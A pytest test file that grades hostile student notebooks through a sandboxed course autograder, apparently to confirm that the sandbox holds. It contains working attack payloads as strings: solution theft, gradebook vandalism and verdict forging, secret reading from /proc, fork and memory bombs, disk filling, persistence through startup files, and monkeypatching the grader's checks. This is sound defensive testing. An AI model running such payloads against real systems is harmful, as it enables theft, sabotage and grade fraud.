"""Hostile submissions through the real `course grade` (bubblewrap sandbox, real kernels, real nbgrader gradebook).

One scratch course (chapter 01_length_ledger). Two honest students are graded first; then ONE `course grade` run
grades a submission per attack together with a third, later honest student. Every hostile notebook holds the correct
`audit_context_fit` (5 points it must keep, exactly) and its attack in the `ledger_from_roles` TODO cell: at the
cell's top level (run by the kernel, and by the checker's student process where the statement is an assignment to a
name) and inside the function (run when the checker calls it). Nothing is mocked; every check reads what the run left
on disk, in the gradebook, on the grader's stdout, or on this machine (a listening socket, free disk space, /proc).
"""

from __future__ import annotations

import csv
import hashlib
import html
import json
import os
import re
import secrets
import shutil
import site
import socket
import sqlite3
import subprocess
import sys
import textwrap
import threading
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest

import course_lib
from course_lib.instructor import build, cells

# slow: `make test-all` runs it, `make test` does not; under -n its tests run on one worker (tests/conftest.py)
pytestmark = pytest.mark.slow

CHAPTER = "01_length_ledger"
LEDGER, AUDIT = "test_ledger_from_roles", "test_audit_context_fit"
COURSE = str(Path(sys.executable).parent / "course")
HONEST_EARLIER = ("alice", "bob")
LATER = "zzlater"  # graded after every hostile submission of the run (alphabetically last)
TIMEOUTS = ("--cell-timeout", "20", "--notebook-timeout", "120")
SANDBOX_UIDS = range(61_000, 61_011)
PACKAGE = Path(course_lib.__file__).resolve().parent
PLANTED = "hostile_planted"  # every file the planting submission tries to leave on the host has this in its name
MIN_PREFIX = 40  # a hidden line's first characters that must not show either (a message cut in the middle of it)
ZEROS = '{"template_tokens": 0, "prompt_tokens": 0, "supervised_tokens": 0, "total_tokens": 0}'

# ------------------------------------------------------------------------------------------- the hostile cells
# Shared by the attacks that search the file system: every file the sandbox shows, from /.
WALK = """
import json as _json
import os as _os


def _walk_everything(limit=400_000):
    seen = 0
    for dirpath, dirnames, filenames in _os.walk("/"):
        if dirpath == "/":
            dirnames[:] = [name for name in dirnames if name not in ("proc", "sys", "dev")]
        for name in filenames:
            seen += 1
            if seen > limit:
                return
            yield _os.path.join(dirpath, name)
"""

THEFT_TOP = (
    WALK
    + """

def _steal():
    found = {"notebooks": 0, "solutions": [], "course": []}
    for path in _walk_everything():
        course_names = ("gradebook.db", "nbgrader_config.py", "course.json", "grades.csv", "grading_log.json")
        if "length_ledger" in path or _os.path.basename(path) in course_names and "site-packages" not in path:
            found["course"].append(path)
        if not path.endswith(".ipynb"):
            continue
        found["notebooks"] += 1
        try:
            with open(path, encoding="utf-8", errors="replace") as handle:
                text = handle.read(20_000_000)
        except OSError:
            continue
        if "BEGIN SOLUTION" in text and "ledger_from_roles" in text:
            found["solutions"].append(path)
    return found


def _solution_code(path):
    try:
        with open(path, encoding="utf-8") as handle:
            notebook = _json.load(handle)
    except (OSError, ValueError):
        return None
    for cell in notebook.get("cells", []):
        source = "".join(cell.get("source", ""))
        if "def ledger_from_roles" in source:
            return source
    return None


_stolen = _steal()
print("THEFT " + _json.dumps(_stolen))
for _path in _stolen["solutions"]:
    exec(_solution_code(_path) or "")
"""
)
THEFT_BODY = """
found = _steal()
for path in found["solutions"]:
    namespace = {}
    exec(_solution_code(path) or "", namespace)
    if "ledger_from_roles" in namespace:
        return namespace["ledger_from_roles"](roles, supervise_eos=supervise_eos)
raise RuntimeError("THEFT " + _json.dumps(found))
"""

GRADEBOOK_TOP = (
    WALK
    + """
_GUESSES = @@GUESSES@@
_FORGED = (\'{"cell": {"grade_id": "test_ledger_from_roles", "points": 3.0, "passed": true, "message": "", \'
           \'"seconds": 0.0, "student_seconds": 0.0, "needs_regrade": ""}}\\n\').encode()


def _vandalize():
    done = []
    names = ("gradebook.db", "grades.csv", "grading_log.json")
    found = [path for path in _walk_everything() if _os.path.basename(path) in names or path.endswith(".db")]
    for path in found + _GUESSES:
        try:
            with open(path, "r+b") as handle:
                handle.write(b"garbage" * 4096)
            done.append("overwrote " + path)
        except OSError:
            pass
    for fd in (1, 2):  # its own standard output and error: what do they lead to?
        try:
            _os.write(fd, _FORGED)
            done.append(f"forged into its own fd {fd}")
        except OSError:
            pass
    for pid in _os.listdir("/proc"):  # a forged verdict into every descriptor of every other process it can open
        if not pid.isdigit() or int(pid) == _os.getpid():
            continue
        try:
            descriptors = _os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in descriptors:
            try:
                target = _os.open(f"/proc/{pid}/fd/{fd}", _os.O_WRONLY | _os.O_NONBLOCK)
            except OSError:
                continue
            try:
                _os.write(target, _FORGED)
                done.append(f"forged into /proc/{pid}/fd/{fd}")
            except OSError:
                pass
            finally:
                _os.close(target)
    return done


_vandalized = _vandalize()
print("VANDAL " + _json.dumps(_vandalized))
"""
)
GRADEBOOK_BODY = """
raise RuntimeError("VANDAL " + _json.dumps(_vandalize()))
"""

OTHERS_TOP = (
    WALK
    + """
_GUESSES = @@GUESSES@@


def _raid():
    names = ("alice_01_length_ledger.ipynb", "bob_01_length_ledger.ipynb", "01_length_ledger.ipynb",
             "01_length_ledger.html")
    seen = {}
    for path in [p for p in _walk_everything() if _os.path.basename(p) in names] + _GUESSES:
        try:
            with open(path, "rb") as handle:
                seen[path] = handle.read(300).decode("utf-8", "replace")
        except OSError:
            pass
        try:
            with open(path, "wb") as handle:
                handle.write(b"overwritten by another student")
            seen[path + " (overwritten)"] = "yes"
        except OSError:
            pass
        try:
            with open(_os.path.join(_os.path.dirname(path), "planted_by_another_student.txt"), "w") as handle:
                handle.write("hello")
            seen[path + " (planted beside)"] = "yes"
        except OSError:
            pass
    return seen


_raided = _raid()
print("RAID " + _json.dumps(_raided))
"""
)
OTHERS_BODY = """
raise RuntimeError("RAID " + _json.dumps(_raid()))
"""

SECRETS_TOP = """
import json as _json
import os as _os


def _secrets():
    texts = {"os.environ": _json.dumps(dict(_os.environ))}
    for pid in sorted(_os.listdir("/proc")):
        if not pid.isdigit():
            continue
        for what in ("environ", "cmdline"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as handle:
                    texts[f"/proc/{pid}/{what}"] = handle.read().replace(b"\\0", b" ").decode("utf-8", "replace")
            except OSError as error:
                texts[f"/proc/{pid}/{what}"] = "unreadable: " + str(error.strerror)
    hits = [key + ": " + text for key, text in texts.items() if "SECRET" in text or "COURSE_" in text]
    return {"hits": hits, "texts": texts}


_found = _secrets()
print("SECRET HITS " + _json.dumps(_found["hits"]))
print("SECRET TEXTS " + _json.dumps(_found["texts"]))
"""
SECRETS_BODY = """
found = _secrets()
raise ValueError("SECRETS " + _json.dumps(found["hits"]) + " " + _json.dumps(found["texts"]))
"""

NETWORK_TOP = """
import json as _json
import socket as _socket

_TARGETS = (("tcp", _socket.AF_INET, ("127.0.0.1", @@PORT@@)), ("unix", _socket.AF_UNIX, @@ABSTRACT@@))


def _call_home(where):
    results = {}
    for name, family, address in _TARGETS:
        try:
            with _socket.socket(family, _socket.SOCK_STREAM) as connection:
                connection.settimeout(3)
                connection.connect(address)
                connection.sendall(("hello from " + where).encode())
            results[name] = "connected"
        except OSError as error:
            results[name] = type(error).__name__ + ": " + str(error)
    return results


_called = _call_home("the top level")
print("NETWORK " + _json.dumps(_called))
"""
NETWORK_BODY = """
raise RuntimeError("NETWORK " + _json.dumps(_call_home("the function")))
"""

PLANTING_TOP = """
import json as _json
import os as _os
import site as _site

import course_lib as _course_lib

# in a later kernel of the same HOME this would end the kernel as it starts
_STARTUP = "import os\\nos._exit(13)\\n"


def _plant(where):
    folders = [_os.path.dirname(_course_lib.__file__), *_site.getsitepackages()]
    results = {}
    for folder in folders:
        for name in (f"@@PLANTED@@_{where}.py", f"@@PLANTED@@_{where}.pth"):
            path = _os.path.join(folder, name)
            try:
                with open(path, "x") as handle:
                    handle.write("import os\\n")
                results[path] = "WRITTEN"
            except OSError as error:
                results[path] = str(error.strerror)
        existing = sorted(name for name in _os.listdir(folder) if name.endswith((".py", ".pth")))[:3]
        for name in existing:  # opened for appending, nothing written: whether it could change them
            path = _os.path.join(folder, name)
            try:
                _os.close(_os.open(path, _os.O_WRONLY | _os.O_APPEND))
                results[path] = "OPENED FOR WRITING (WRITTEN)"
            except OSError as error:
                results[path] = str(error.strerror)
    for profile in ("~/.ipython/profile_default/startup", "~/.ipython/profile_@@PLANTED@@/startup"):
        startup = _os.path.expanduser(profile)
        try:
            _os.makedirs(startup, exist_ok=True)
            with open(_os.path.join(startup, f"00-@@PLANTED@@-{where}.py"), "w") as handle:
                handle.write(_STARTUP)
            results[startup] = "written in this sandbox's HOME, " + _os.path.expanduser("~")
        except OSError as error:
            results[startup] = str(error.strerror)
    return results


_planted = _plant("top")
print("PLANT " + _json.dumps(_planted))
"""
PLANTING_BODY = """
raise RuntimeError("PLANT " + _json.dumps({path: what for path, what in _plant("function").items() if "rit" in what}))
"""

KILLER_TOP = """
import os as _os
import signal as _signal

_killed = _os.kill(_os.getppid(), _signal.SIGKILL)
"""
KILLER_BODY = """
for target in (1, _os.getppid(), -1):
    try:
        _os.kill(target, _signal.SIGKILL)
    except OSError:
        pass
_os._exit(0)
"""

# Grade dodging (issue 33): the student's processes share the checker's uid, so they could set its task limit to 1
# (every later student process then fails to start: "needs regrading" at every run instead of an honest 0) or
# starve it. Tried on pid 1 (the checker, init of the sandbox) and on the parent; the outcomes travel in the error.
DODGER_TOP = """
import json as _json
import os as _os
import resource as _resource


def _dodge():
    outcomes = {}
    for target in sorted({1, _os.getppid()}):
        attempts = {
            "RLIMIT_NPROC (1, 1)": lambda: _resource.prlimit(target, _resource.RLIMIT_NPROC, (1, 1)),
            "one CPU": lambda: _os.sched_setaffinity(target, {min(_os.sched_getaffinity(0))}),
            "SCHED_IDLE": lambda: _os.sched_setscheduler(target, _os.SCHED_IDLE, _os.sched_param(0)),
            "nice 19": lambda: _os.setpriority(_os.PRIO_PROCESS, target, 19),
            "a signal": lambda: _os.kill(target, 0),  # 0: permission checked, nothing sent
        }
        for what, attempt in attempts.items():
            try:
                attempt()
                outcomes[f"{target} {what}"] = "done"
            except OSError as error:
                outcomes[f"{target} {what}"] = error.strerror
    return outcomes
"""
DODGER_BODY = """
raise RuntimeError("DODGE " + _json.dumps(_dodge()))
"""

# The notebook's own run (issue 33): its kernel is forked from the checker, in the checker's sandbox. At the top
# level of the TODO cell (which only the kernel runs: a print and an `if` are dropped from the student processes'
# module), it tries the dodges on the checker and leaves a busy process in a session of its own with a file in
# /dev/shm and in its room, to slow the checks or hand them something; the TODO function reports what it finds.
KERNEL_DODGER_TOP = (
    DODGER_TOP
    + """
print("KERNEL-DODGE " + _json.dumps(_dodge()))
if _os.fork() == 0:
    _os.setsid()
    for _path in ("/dev/shm/left-by-the-kernel", "left-by-the-kernel"):
        with open(_path, "w") as _handle:
            _handle.write("x")
    while True:
        pass
"""
)
KERNEL_DODGER_BODY = """
found = [path for path in ("/dev/shm/left-by-the-kernel", "left-by-the-kernel") if _os.path.exists(path)]
busy = []
for pid in filter(str.isdigit, _os.listdir("/proc")):
    try:
        with open(f"/proc/{pid}/stat") as stat:
            if stat.read().split(") ", 1)[1].startswith("R") and int(pid) != _os.getpid():
                busy.append(pid)
    except OSError:
        pass
raise RuntimeError("LEFT " + _json.dumps({"files": found, "busy": busy}))
"""

FORKBOMB_TOP = """
import os as _os

try:
    while True:
        _os.fork()
except OSError as _error:
    print("the fork bomb stopped here:", _error)
"""
FORKBOMB_BODY = """
while True:
    _os.fork()
"""

MEMHOG_TOP = """
try:
    _hog = bytearray(20 * 2**30)
except MemoryError:
    print("20 GB refused")
"""
MEMHOG_BODY = """
hog = []
try:
    hog.append(bytearray(20 * 2**30))
except MemoryError:
    pass
try:
    while len(hog) < 80:  # 80 x 256 MB = 20 GB, each written to
        hog.append(b"\\1" * (256 * 2**20))
except MemoryError:
    pass
del hog
"""

DISKFILL_TOP = """
import json as _json
import os as _os
import tempfile as _tempfile


def _fill(where):
    report = []
    block = b"x" * 2**20
    folders = (_os.getcwd(), _os.path.expanduser("~"), _tempfile.gettempdir(), "/tmp", "/dev/shm", "/", "/home")
    for number, folder in enumerate(folders):
        written = 0
        try:
            with open(_os.path.join(folder, f"filler-{where}-{_os.getpid()}-{number}"), "wb") as handle:
                while written < 3 * 2**30:  # capped at 3 GB per folder
                    handle.write(block)
                    written += len(block)
            report.append([folder, written >> 20, "no error"])
        except OSError as error:
            report.append([folder, written >> 20, str(error.strerror)])
    return report


_filled = _fill("top")
print("FILLED " + _json.dumps(_filled))
"""
DISKFILL_BODY = """
_fill("function")
"""

FLOOD_TOP = """
import sys as _sys

print("x" * 50_000_000)
"""
FLOOD_BODY = """
print("y" * 50_000_000)
_sys.stderr.write("z" * 50_000_000)
"""

LOOP_BODY = """
while True:
    pass
"""

# The hidden tests call grading.assert_matches_reference / assert_rejects: switch them off by every import spelling,
# in this process, and make every check "pass". The function itself is wrong.
HELPERS_TOP = """
import builtins as _builtins
import importlib as _importlib
import sys as _sys


def _switch_off_the_checks():
    spellings = []
    for get in (lambda: _importlib.import_module("course_lib." + "grading"),
                lambda: _sys.modules["course_lib.grading"],
                lambda: __import__("course_lib.grading", fromlist=["grading"]),
                lambda: _sys.modules["course_lib"].grading):
        try:
            spellings.append(get())
        except Exception:
            pass
    for module in spellings:
        for name in ("assert_matches_reference", "assert_rejects", "assert_same", "assert_own_function",
                     "expect_value_error", "_changed", "_snapshot"):
            setattr(module, name, lambda *args, **kwargs: None)
        module.reference = lambda name: (lambda *args, **kwargs: ledger_from_roles(*args, **kwargs))
        module._ORIGINALS = {name: (lambda *args, **kwargs: None) for name in getattr(module, "_ORIGINALS", {})}
    _builtins.AssertionError = type("AssertionError", (Exception,), {})
    return len(spellings)


_switched = _switch_off_the_checks()


class _AtDefinitionTime:
    switched = _switch_off_the_checks()


# the visible test compares with measure_sample: in this namespace it now agrees with anything
measure_sample = lambda *args, **kwargs: ledger_from_roles([])
"""
HELPERS_BODY = """
_switch_off_the_checks()
"""

PATCHER_TOP = """
import builtins as _builtins
import math as _math
import sys as _sys

import numpy as _numpy
import torch as _torch

_real_isinstance = isinstance
_real_type = type


def _from_the_checks():
    try:
        frame = _sys._getframe(2)
    except ValueError:
        return False
    return str(frame.f_globals.get("__name__", "")).startswith(("course_lib.grading", "__main__"))


def _isinstance(value, kinds):
    return True if _from_the_checks() else _real_isinstance(value, kinds)


def _type(*args):
    if len(args) == 1 and _from_the_checks():
        return dict
    return _real_type(*args)


def _patch_everything():
    _torch.allclose = lambda *args, **kwargs: True
    _torch.equal = lambda *args, **kwargs: True
    _torch.isclose = lambda input, other, *args, **kwargs: _torch.ones_like(_torch.as_tensor(input), dtype=_torch.bool)
    _torch.Tensor.__eq__ = lambda self, other: _torch.ones_like(self, dtype=_torch.bool)
    _torch.Tensor.__ne__ = lambda self, other: _torch.zeros_like(self, dtype=_torch.bool)
    _numpy.array_equal = lambda *args, **kwargs: True
    _numpy.allclose = lambda *args, **kwargs: True
    _math.isclose = lambda *args, **kwargs: True
    _builtins.isinstance = _isinstance
    return True


_patched = _patch_everything()
"""
PATCHER_BODY = """
_patch_everything()
_builtins.type = _type  # breaks this process's libraries (isinstance(x, type) raises): its own loss
"""

HOOKS_TOP = """
try:
    _shell = get_ipython()  # noqa: F821 - the kernel's

    def _echo_cell(info):
        print("HOOK pre_run_cell:\\n" + info.raw_cell)

    def _echo_lines(lines):
        print("HOOK input transformer:\\n" + "".join(lines))
        return lines

    _shell.events.register("pre_run_cell", _echo_cell)
    _shell.input_transformers_cleanup.append(_echo_lines)
    _shell.input_transformers_post.append(_echo_lines)
except NameError:
    pass
"""
HOOKS_BODY = """
try:
    get_ipython().events.register("post_run_cell", lambda result: print(result.info.raw_cell))  # noqa: F821
except NameError:
    pass
"""

DIG_TOP = '''
import gc as _gc
import sys as _sys

_MARKS = ("BEGIN " + "HIDDEN", "assert_matches_" + "reference")


def _dig():
    """Strings of this process's memory (every frame up the stack, every object the collector knows) that look
    like the hidden tests."""
    values = []
    frame = _sys._getframe(1)
    while frame is not None:
        values += list(frame.f_locals.values()) + [frame.f_code.co_filename]
        frame = frame.f_back
    for container in _gc.get_objects():
        if container is values:
            continue
        if type(container) is dict:
            values += list(container.values())
        elif type(container) in (list, tuple):
            values += list(container)
    found, pending, seen = [], [(value, 0) for value in values], set()
    budget = 20_000_000
    while pending and budget:
        budget -= 1
        value, depth = pending.pop()
        if type(value) is str:
            if any(mark in value for mark in _MARKS) and value not in found:
                found.append(value)
        elif depth < 4 and type(value) in (list, tuple, dict) and id(value) not in seen:
            seen.add(id(value))
            items = list(value.values()) if type(value) is dict else list(value)
            pending += [(item, depth + 1) for item in items]
    return found


def _hidden_lines():
    lines = []
    for text in _dig():
        inside = False
        for line in text.splitlines():
            if "BEGIN " + "HIDDEN" in line:
                inside = True
            elif "END " + "HIDDEN" in line:
                inside = False
            elif inside and line.strip() and line.strip() not in lines:
                lines.append(line.strip())
    return lines
'''
DIG_RAISE_BODY = """
lines = _hidden_lines()
raise ValueError(f"DUG {len(lines)} hidden lines:\\n" + "\\n".join(lines))
"""
DIG_RETURN_BODY = """
lines = _hidden_lines()
if lines:
    return {line: 0 for line in lines}
"""

# Rebuilding the library's ledger_from_roles, which the grader switched off in the student's process: from its
# module reloaded, from its source or bytecode on disk, from the grader's own copy of its code.
REBUILD_TOP = """
import importlib as _importlib
import importlib.util as _importlib_util
import marshal as _marshal
import sys as _sys
import types as _types


def _ledger_module():
    return _sys.modules["course_lib." + "led" + "ger"]
"""
RELOAD_BODY = """
return _importlib.reload(_ledger_module()).ledger_from_roles(roles, supervise_eos=supervise_eos)
"""
SOURCE_BODY = """
module = _ledger_module()
namespace = {"__name__": "course_lib.copy", "__package__": "course_lib"}
try:
    with open(_importlib_util.cache_from_source(module.__file__), "rb") as handle:
        code = _marshal.loads(handle.read()[16:])
except OSError:
    with open(module.__file__) as handle:
        code = compile(handle.read(), "copy", "exec")
exec(code, namespace)
return namespace["ledger_from_roles"](roles, supervise_eos=supervise_eos)
"""
ORIGINALS_BODY = """
codes = getattr(_sys.modules["course_lib." + "gra" + "ding"], "BLOCK" + "ABLE")
rebuilt = _types.FunctionType(codes["ledger_from_roles"], vars(_ledger_module()))
return rebuilt(roles, supervise_eos=supervise_eos)
"""

GRAB_TOP = """
import sys as _sys
import types as _types


def _grab():  # at the top of the cell: before the grader could drop its copy of the code
    try:
        table = getattr(_sys.modules["course_lib." + "gra" + "ding"], "BLOCK" + "ABLE")
        return _types.FunctionType(table["ledger_from_roles"], vars(_sys.modules["course_lib." + "led" + "ger"]))
    except Exception:
        return None


_grabbed = _grab()
"""
GRAB_BODY = """
if _grabbed is not None:
    return _grabbed(roles, supervise_eos=supervise_eos)
"""

# The process that runs ledger_from_roles has the library's audit_context_fit on (the library's own functions may
# call it): its code, stashed there where the next process could read it, would answer audit_context_fit.
STASHER_LEDGER_TAIL = """

import marshal as _marshal
import os as _os
import sys as _sys


def _stash():
    audit = _sys.modules["course_lib." + "win" + "dow"].audit_context_fit
    data = _marshal.dumps(getattr(audit, "__co" + "de__"))
    for folder in (_os.getcwd(), "/dev/shm"):
        try:
            hideout = _os.path.join(folder, "hideout")
            _os.makedirs(hideout, exist_ok=True)
            with open(_os.path.join(hideout, ".stash"), "wb") as handle:
                handle.write(data)
            _os.chmod(hideout, 0o500)  # read-only: a wipe that only unlinks would leave it
        except OSError:
            pass
    try:  # in the user keyring (add_key, x86_64), which outlives the process too, and in the uid's persistent one
        import ctypes as _ctypes

        libc = _ctypes.CDLL(None)
        libc.syscall(248, b"user", b"stash", data, len(data), _ctypes.c_int(-4))
        persistent = libc.syscall(250, 22, _ctypes.c_long(-1), _ctypes.c_long(-2))  # KEYCTL_GET_PERSISTENT
        libc.syscall(248, b"user", b"stash-p", data, len(data), _ctypes.c_int(persistent))
    except Exception:
        pass
    try:  # and a System V segment, which outlives its process
        import ctypes as _ctypes

        libc = _ctypes.CDLL(None, use_errno=True)
        libc.shmat.restype = _ctypes.c_void_p
        address = libc.shmat(libc.shmget(0x5EED, 1 << 20, 0o1000 | 0o600), None, 0)
        _ctypes.memmove(address, len(data).to_bytes(8, "little") + data, 8 + len(data))
    except Exception:
        pass


def ledger_from_roles(roles, *, supervise_eos: bool = True):
    _stash()
    return _honest_ledger(roles, supervise_eos=supervise_eos)
"""
STASHER_AUDIT = """
import marshal as _marshal
import os as _os
import sys as _sys
import types as _types


def _stashed():
    for folder in (_os.getcwd(), "/dev/shm"):
        try:
            with open(_os.path.join(folder, "hideout", ".stash"), "rb") as handle:
                return handle.read()
        except OSError:
            continue
    import ctypes as _ctypes

    libc = _ctypes.CDLL(None, use_errno=True)
    key = libc.syscall(249, b"user", b"stash", None, _ctypes.c_int(0))  # request_key (x86_64)
    if key <= 0:  # KEYCTL_SEARCH of the uid's persistent keyring
        persistent = libc.syscall(250, 22, _ctypes.c_long(-1), _ctypes.c_long(-2))
        key = libc.syscall(250, 10, _ctypes.c_long(persistent), b"user", b"stash-p", _ctypes.c_long(0))
    if key > 0:
        buffer = _ctypes.create_string_buffer(1 << 20)
        size = libc.syscall(250, 11, _ctypes.c_long(key), buffer, _ctypes.c_long(1 << 20))  # KEYCTL_READ
        if size > 0:
            return buffer.raw[:size]
    libc.shmat.restype = _ctypes.c_void_p
    segment = libc.shmget(0x5EED, 0, 0)
    if segment >= 0:
        address = libc.shmat(segment, None, 0)
        size = int.from_bytes(_ctypes.string_at(address, 8), "little")
        return _ctypes.string_at(address + 8, size)
    return None


def audit_context_fit(*args, **kwargs):
    library = _sys.modules["course_lib." + "win" + "dow"].audit_context_fit
    data = _stashed()
    if data is None:
        raise NotImplementedError("no stash")
    code = _marshal.loads(data)
    stashed = _types.FunctionType(code, vars(_sys.modules[library.__module__]), "f", library.__defaults__)
    stashed.__kwdefaults__ = library.__kwdefaults__
    return stashed(*args, **kwargs)
"""

# A module planted where the checker imports from (its working folder, first on `python -m`'s sys.path), under
# names it imports only later (chapter 1's hidden tests load datasets, which tries lz4, pandas, ...): imported
# there, it makes every verdict a pass. Appended to an honest ledger_from_roles, with audit_context_fit unsolved.
PLANTED_CHECKER_MODULE = """
import json as _real_json
import sys as _sys

_checker = _sys.modules.get("course_lib." + "gra" + "ding.checker")


class _Lying:
    def __getattr__(self, name):
        return getattr(_real_json, name)

    def dumps(self, record, *args, **kwargs):
        if isinstance(record, dict) and isinstance(record.get("cell"), dict):
            record["cell"].update(passed=True, message="", needs_regrade="")
        return _real_json.dumps(record, *args, **kwargs)


if _checker is not None:
    _checker.json = _Lying()
raise ImportError("planted")
"""
PLANTER_TAIL = f"""

import os as _os

_PAYLOAD = {PLANTED_CHECKER_MODULE!r}


def _plant_modules():
    written = []
    for folder in {{_os.getcwd(), _os.path.dirname(_os.getcwd()), _os.path.expanduser("~"), "/home/student"}}:
        for name in ("lz4", "snappy", "isal", "zstandard", "brotli", "_strptime", "pandas", "pyarrow", "datasets"):
            try:
                with open(_os.path.join(folder, name + ".py"), "w") as handle:
                    handle.write(_PAYLOAD)
                written.append(_os.path.join(folder, name + ".py"))
            except OSError:
                pass
    return written


_planted = _plant_modules()
"""

# student -> (top of the TODO cell, body of ledger_from_roles); the body falls through to a wrong ledger (all zeros)
ATTACKS = {
    "theft": (THEFT_TOP, THEFT_BODY),
    "gradebook": (GRADEBOOK_TOP, GRADEBOOK_BODY),
    "others": (OTHERS_TOP, OTHERS_BODY),
    "secrets": (SECRETS_TOP, SECRETS_BODY),
    "network": (NETWORK_TOP, NETWORK_BODY),
    "planting": (PLANTING_TOP, PLANTING_BODY),
    "killer": (KILLER_TOP, KILLER_BODY),
    "forkbomb": (FORKBOMB_TOP, FORKBOMB_BODY),
    "dodger": (DODGER_TOP, DODGER_BODY),
    "kerneldodger": (KERNEL_DODGER_TOP, KERNEL_DODGER_BODY),
    "memhog": (MEMHOG_TOP, MEMHOG_BODY),
    "diskfill": (DISKFILL_TOP, DISKFILL_BODY),
    "flood": (FLOOD_TOP, FLOOD_BODY),
    "loop": ("", LOOP_BODY),
    "helpers": (HELPERS_TOP, HELPERS_BODY),
    "helperscontrol": ("", ""),  # the same wrong function, no patch: what the patches must not change
    "patcher": (PATCHER_TOP, PATCHER_BODY),
    "hooks": (HOOKS_TOP, HOOKS_BODY),
    "digraise": (DIG_TOP, DIG_RAISE_BODY),
    "digreturn": (DIG_TOP, DIG_RETURN_BODY),
    "reload": (REBUILD_TOP, RELOAD_BODY),
    "source": (REBUILD_TOP, SOURCE_BODY),
    "originals": (REBUILD_TOP, ORIGINALS_BODY),
    "grabtop": (GRAB_TOP, GRAB_BODY),
    "markertodo": ("# ### BEGIN HIDDEN TESTS: a stray nbgrader marker, never ended", ""),
    # not an attack: a TODO cell that fails at import costs its own function only, as in a kernel, not the next cell's
    "importfails": ("from math import no_such_name", ""),
}
# A stray nbgrader marker in a markdown cell of the student's (the ledger cell is the attacks' wrong one, no patch):
# nbgrader's ClearHiddenTests refused such a notebook, leaving it ungraded at every run.
MARKDOWN_MARKERS = {
    "markerbegin": "### BEGIN HIDDEN TESTS\nmy notes, never ended",
    "markerend": "### END HIDDEN TESTS\n### BEGIN SOLUTION (read only when an assignment is generated: kept)",
}
PLANTER = "planter"  # honest ledger_from_roles with PLANTER_TAIL, audit_context_fit as handed out: 3 points
STASHER = "stasher"  # honest ledger_from_roles that stashes the library's audit code; an audit that loads it


def _ledger_cell(imports: str, top: str, body: str) -> str:
    """The TODO cell: the release's imports, the attack's top level, ledger_from_roles with the attack inside and a
    wrong ledger at its end."""
    return (
        f"{imports}\n{top}\n\ndef ledger_from_roles(roles, *, supervise_eos: bool = True) -> dict[str, int]:\n"
        f"{textwrap.indent(body.strip(), '    ')}\n    return {ZEROS}\n"
    )


# ------------------------------------------------------------------------------------------------------- helpers
def _course(*args: str, cwd: Path, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([COURSE, *args], cwd=cwd, env=env, capture_output=True, text=True, timeout=1500)


def _submission(release: nbformat.NotebookNode, sources: dict[str, str], path: Path, markdown: str = "") -> None:
    """The release with `sources` in its TODO cells, and a markdown cell of `markdown` after the first, if given."""
    notebook = nbformat.from_dict(json.loads(nbformat.writes(release)))
    for cell in notebook.cells:
        grade_id = cells.nbgrader_meta(cell).get("grade_id")
        if cell.cell_type == "code" and grade_id in sources:
            cell.source = sources[grade_id]
    if markdown:
        notebook.cells.insert(1, nbformat.v4.new_markdown_cell(markdown))
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, str(path))


def _hashes(*paths: Path, skip_pycache: bool = False) -> dict[str, str]:
    found = {}
    for top in paths:
        files = [top] if top.is_file() else sorted(p for p in top.rglob("*") if p.is_file() or p.is_symlink())
        for path in files:
            if skip_pycache and "__pycache__" in path.parts:
                continue
            found[str(path)] = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "link"
    return found


def _names(*paths: Path) -> set[str]:
    return {str(p) for top in paths if top.is_dir() for p in top.rglob("*")}


def _honest_files(root: Path, students: tuple[str, ...]) -> dict[str, str]:
    return _hashes(
        *[
            root / step / student
            for step in ("submitted", "autograded", "feedback")
            for student in students
            if (root / step / student).exists()
        ]
    )


def _gradebook_scores(root: Path) -> dict[str, dict[str, float]]:
    from nbgrader.api import Gradebook

    scores: dict[str, dict[str, float]] = {}
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gradebook:
        for submission in gradebook.assignment_submissions(CHAPTER):
            for notebook in submission.notebooks:
                scores[submission.student.id] = {g.name: float(g.score or 0.0) for g in notebook.grades}
    return scores


def _rows(path: Path) -> dict[str, dict[str, str]]:
    with open(path, encoding="utf-8") as handle:
        return {row["student"]: row for row in csv.DictReader(handle)}


def _sandbox_processes() -> list[str]:
    """Processes of the sandboxes' uids that no running bwrap holds: what escaped or outlived its sandbox. (Another
    grader running at the same time has its processes under a bwrap of its own.)"""
    table = {}
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            status = Path(f"/proc/{entry}/status").read_text(encoding="ascii", errors="replace")
            comm = Path(f"/proc/{entry}/comm").read_text(encoding="ascii", errors="replace").strip()
        except OSError:
            continue
        fields = dict(line.split(":", 1) for line in status.splitlines() if ":" in line)
        table[int(entry)] = (int(fields["Uid"].split()[0]), int(fields["PPid"].strip()), comm)
    strays = []
    for pid, (uid, parent, comm) in table.items():
        if uid not in SANDBOX_UIDS:
            continue
        held, seen = False, set()
        while parent in table and parent not in seen:
            seen.add(parent)
            if table[parent][2] == "bwrap":
                held = True
                break
            parent = table[parent][1]
        if not held:
            strays.append(f"pid {pid} uid {uid} {comm}")
    return strays


class _TextOf(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.parts: list[str] = []

    def handle_data(self, data):
        self.parts.append(data)


def _strings(value) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, list):
        return [text for item in value for text in _strings(item)]
    if isinstance(value, dict):
        return [text for item in value.values() for text in _strings(item)]
    return []


def _readable_texts(path: Path) -> list[str]:
    """A file as text in every form a reader meets it: raw, and for a notebook the strings of its JSON (joined per
    output), for a page its unescaped text with the tags gone (highlighted code is one span per token)."""
    raw = path.read_bytes().decode("utf-8", "replace")
    texts = [raw]
    if path.suffix == ".ipynb":
        try:
            texts.append(
                "\n".join("".join(part) if isinstance(part, list) else part for part in _strings(json.loads(raw)))
            )
        except ValueError:
            pass
    if path.suffix in (".html", ".htm"):
        parser = _TextOf()
        parser.feed(raw)
        texts += [html.unescape(raw), "".join(parser.parts)]
    return texts


def _leaks(folder: Path, secrets_: list[str]) -> dict[str, list[str]]:
    """file -> the secrets (and the first MIN_PREFIX characters of the longer ones) found in it."""
    found = {}
    needles = sorted(set(secrets_) | {s[:MIN_PREFIX] for s in secrets_ if len(s) > MIN_PREFIX})
    for path in sorted(p for p in folder.rglob("*") if p.is_file()):
